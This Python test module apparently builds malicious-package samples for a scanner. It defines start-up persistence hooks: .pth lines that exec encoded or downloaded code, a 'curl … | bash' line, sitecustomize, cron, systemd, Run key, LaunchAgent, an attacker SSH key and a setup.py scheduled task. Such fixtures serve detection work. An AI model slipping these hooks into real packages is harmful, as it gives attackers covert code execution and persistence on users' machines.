"""Start-up hooks: what runs whenever Python starts, and what puts itself there."""

from tests.malicious.making import HOST, Sample, b64, imported, installed, raw

FAMILY = "start-up hooks"


def samples() -> list[Sample]:
    """All of the family."""

    def pth(name: str, line: str, **more: str) -> Sample:
        files = {"demo.pth": raw(line), "demo/__init__.py": b""}
        files |= {f"{module}.py": raw(text) for module, text in more.items()}
        return Sample(FAMILY, name, files)

    return [
        pth("decoder in .pth", f"import base64; exec(base64.b64decode('{b64()}'))\n"),
        pth(
            "download in .pth",
            f"import os, urllib.request; exec(urllib.request.urlopen('{HOST}/a').read())\n",
        ),
        pth(
            "own module behind .pth",
            "import demo_boot\n",
            demo_boot="import os\nos.system('curl http://example.invalid/i.sh | bash')\n",
        ),
        pth(
            "subprocess in .pth",
            "import subprocess,sys;subprocess.Popen([sys.executable,'-c','import urllib.request as u;"
            f'exec(u.urlopen("{HOST}").read())\'])\n',
        ),
        Sample(
            FAMILY,
            "sitecustomize in a wheel",
            {"sitecustomize.py": b"import os\nos.system('id > /tmp/x')\n"},
        ),
        Sample(FAMILY, "usercustomize package", {"usercustomize/__init__.py": b"VALUE = 1\n"}),
        imported(
            FAMILY,
            ".pth written at import",
            "import os, site\n"
            "target = os.path.join(site.getsitepackages()[0], 'zz-boot.pth')\n"
            "with open(target, 'w') as hook:\n"
            "    hook.write('import demo.boot')\n",
        ),
        imported(
            FAMILY,
            "bashrc",
            "import os\nrc = os.path.expanduser('~/.bashrc')\n"
            "open(rc, 'a').write('\\npython3 -m demo.agent &\\n')\n",
        ),
        imported(
            FAMILY,
            "cron by shell",
            'import subprocess\nsubprocess.run(\'(crontab -l; echo "@reboot python3 -m demo") | '
            "crontab -', shell=True)\n",
        ),
        imported(
            FAMILY,
            "systemd unit",
            "from pathlib import Path\nunit = Path.home() / '.config/systemd/user/demo.service'\n"
            "unit.parent.mkdir(parents=True, exist_ok=True)\n"
            "unit.write_text('[Service]\\nExecStart=/tmp/demo')\n",
        ),
        imported(
            FAMILY,
            "autostart entry",
            "import os\np = os.path.join(os.environ['HOME'], '.config', 'autostart', 'demo.desktop')\n"
            "f = open(p, 'w')\nf.write('[Desktop Entry]\\nExec=/tmp/demo')\nf.close()\n",
        ),
        imported(
            FAMILY,
            "Run key",
            "import sys\nif sys.platform == 'win32':\n    import winreg as w\n"
            "    k = w.OpenKey(w.HKEY_CURRENT_USER,"
            " r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, w.KEY_SET_VALUE)\n"
            "    w.SetValueEx(k, 'demo', 0, w.REG_SZ, sys.executable)\n",
        ),
        imported(
            FAMILY,
            "start menu",
            "import os, shutil\nhere = os.path.dirname(__file__)\n"
            "menu = os.getenv('APPDATA') + "
            "r'\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\demo.exe'\n"
            "shutil.copy(os.path.join(here, 'demo.exe'), menu)\n",
        ),
        imported(
            FAMILY,
            "launch agent",
            "import os, plistlib\ndef plant():\n"
            "    where = os.path.expanduser('~/Library/LaunchAgents/com.demo.plist')\n"
            "    with open(where, 'wb') as f:\n        plistlib.dump({'Label': 'demo'}, f)\n"
            "    os.system('launchctl load ' + where)\nplant()\n",
        ),
        imported(
            FAMILY,
            "authorized key",
            "import os\nssh = os.path.join(os.path.expanduser('~'), '.ssh')\n"
            "with open(os.path.join(ssh, 'authorized_keys'), 'a') as keys:\n"
            "    keys.write('ssh-ed25519 AAAA attacker')\n",
        ),
        installed(
            FAMILY,
            "scheduled task at install",
            "import os\nfrom setuptools import setup\n"
            "os.system('schtasks /create /sc minute /mo 5 /tn demo /tr C:\\\\demo.exe')\n"
            "setup(name='demo')\n",
        ),
    ]
